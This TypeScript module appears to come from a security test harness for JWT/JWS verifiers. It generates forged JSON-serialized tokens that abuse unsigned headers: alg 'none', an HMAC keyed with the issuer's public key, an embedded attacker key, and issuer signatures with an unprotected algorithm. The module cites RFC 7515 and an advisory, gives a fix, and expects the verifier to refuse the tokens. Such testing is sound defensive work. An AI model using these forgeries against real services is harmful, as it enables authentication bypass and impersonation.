import type { ForgeContext, Forgery, Proof, TokenAttack } from '../attack.ts';
import { attackerKey } from '../attacker-forgery.ts';
import { encodeBase64Url, encodeUtf8 } from '../encoding.ts';
import { issuerProof } from '../issued-forgery.ts';
import type { JsonObject } from '../known-token.ts';
import { pemSpellings } from '../public-key-text.ts';
import { signMac, signMessage } from '../signatures.ts';
import { freshClaims, writeSegment } from '../unsafe-writer.ts';

/** A07. */
export const unprotectedHeader: TokenAttack = {
  kind: 'token',
  id: 'A07',
  title: 'Algorithm taken from a header that no signature covers',
  severity: 'critical',
  cwe: 347,
  source: ['RFC 7515 §7.2', 'RFC 7515 §10.7'],
  how: 'In its JSON form a JWS may carry a second header beside the signed one, and nobody has signed that. Whoever reads the algorithm, the key’s name or the key itself from there lets the attacker choose them. The unsigned form, a MAC under the public key and a foreign key are offered through it.',
  victims: [{ what: 'web-token/jwt-library < 3.4.10, < 4.0.7, < 4.1.7', advisory: 'GHSA-jc38-x7x8-2xc8' }],
  fix: 'Accept the compact form alone. Where the JSON form is needed, take what decides about the check from the protected header only, and refuse members that stand in both.',
  needs: [],
  expect: 'refused',
  forge: async (context) => [
    ...unsigned(context),
    ...(await signedByPublicKey(context)),
    ...(await signedByStranger(context)),
    ...(await signedByIssuer(context)),
  ],
};

interface JsonJws {
  readonly header: JsonObject;
  readonly payload: string;
  readonly protected?: string;
  readonly signature: Uint8Array;
}

function unsigned({ good }: ForgeContext): readonly Forgery[] {
  const payload = writeSegment(good.payload);
  const { alg: _, ...rest } = good.header;
  const jws = { header: { ...rest, alg: 'none' }, payload, signature: new Uint8Array() };
  const proof: Proof = { kind: 'unsigned' };
  return [
    { variant: 'none', token: flattened(jws), proof },
    { variant: 'none-beside-protected', token: flattened({ ...jws, protected: writeSegment(rest) }), proof },
    { variant: 'none-over-own', token: flattened({ ...jws, protected: good.segments[0] }), proof },
    { variant: 'none-in-general-form', token: general(jws), proof },
  ];
}

async function signedByPublicKey({ good, keys }: ForgeContext): Promise<readonly Forgery[]> {
  const pem = keys.slice(0, 1).flatMap(pemSpellings)[0];
  if (pem === undefined) return [];
  const { alg: _, typ, ...rest } = good.header;
  const [head, payload] = [writeSegment({ typ }), writeSegment(good.payload)];
  const signature = await signMac('SHA-256', pem.bytes, encodeUtf8(`${head}.${payload}`));
  const jws = { header: { ...rest, alg: 'HS256' }, payload, protected: head, signature };
  const proof: Proof = { kind: 'mac', hash: 'SHA-256', key: pem.bytes };
  return [
    { variant: 'mac-under-public-key', token: flattened(jws), proof },
    { variant: 'mac-under-public-key-in-general-form', token: general(jws), proof },
  ];
}

/** The key beside its own signature, and the issuer's algorithm where it should be. */
async function signedByStranger(context: ForgeContext): Promise<readonly Forgery[]> {
  const { alg, privateJwk, publicJwk } = await attackerKey(context, 'ES256');
  const { kid } = context.good.header;
  const [head, payload] = [writeSegment({ typ: context.good.header['typ'] }), writeSegment(freshClaims(context))];
  const signature = await signMessage(alg, privateJwk, encodeUtf8(`${head}.${payload}`));
  const header = { alg, kid, jwk: publicJwk };
  const proof: Proof = { kind: 'signature', alg, key: publicJwk };
  return [{ variant: 'key-beside', token: flattened({ header, payload, protected: head, signature }), proof }];
}

/** Really the issuer's signature; but which algorithm it is by, and which key's, no one has signed. */
async function signedByIssuer(context: ForgeContext): Promise<readonly Forgery[]> {
  if (context.signer === undefined) return [];
  const { alg, jwk } = context.signer;
  const { alg: own, kid, ...rest } = context.good.header;
  const payload = writeSegment(freshClaims(context));
  const sign = async (head: string): Promise<Uint8Array> => signMessage(alg, jwk, encodeUtf8(`${head}.${payload}`));
  const head = writeSegment(rest);
  const partly = { header: { alg: own, kid }, payload, protected: head, signature: await sign(head) };
  const bare = { header: { ...rest, alg: own, kid }, payload, signature: await sign('') };
  const proof = issuerProof(context);
  return [
    { variant: 'own-algorithm-unprotected', token: flattened(partly), proof },
    { variant: 'own-algorithm-unprotected-in-general-form', token: general(partly), proof },
    { variant: 'nothing-protected', token: flattened(bare), proof },
  ];
}

/** RFC 7515 §7.2.2. */
function flattened({ signature, ...members }: JsonJws): string {
  return JSON.stringify({ ...members, signature: encodeBase64Url(signature) });
}

/** RFC 7515 §7.2.1. */
function general({ payload, signature, ...members }: JsonJws): string {
  return JSON.stringify({ payload, signatures: [{ ...members, signature: encodeBase64Url(signature) }] });
}
